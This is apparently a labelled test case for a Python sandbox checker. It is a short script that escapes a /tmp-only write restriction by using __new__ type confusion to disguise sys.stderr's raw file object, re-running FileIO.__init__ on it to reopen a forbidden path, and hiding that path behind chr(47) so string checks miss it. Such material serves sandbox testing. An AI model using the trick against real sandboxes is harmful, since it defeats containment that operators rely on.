# source: CPython _io.FileIO.__init__ can be re-run on a live object (closes the fd, opens a new path; pyjail "re-init a file object" trick) + __new__ returning a foreign object so the check types it as the script class (self.buffer / self.raw allowed)
# family: object model hooks - __new__ type confusion + unbound method with keyword self= calling self.__init__ on sys.stderr.buffer.raw
# goal: write (and read back) /dev/shm/pwned, a file outside /tmp
import sys

class Box:
    def __new__(cls, target):
        return target

    def __init__(self, target):
        self.buffer = None
        self.raw = None

    def reopen(self, path, mode):
        self.__init__(path, mode)
        return self

raw = Box(Box(sys.stderr).buffer).raw
root = chr(47)
target = root + "dev" + root + "shm" + root + "pwned"
f = Box.reopen(self=raw, path=target, mode="w")
f.write(b"written outside /tmp by an accepted script\n")
f = Box.reopen(self=raw, path=target, mode="r")
f.seek(0)
print(f, f.read().decode())
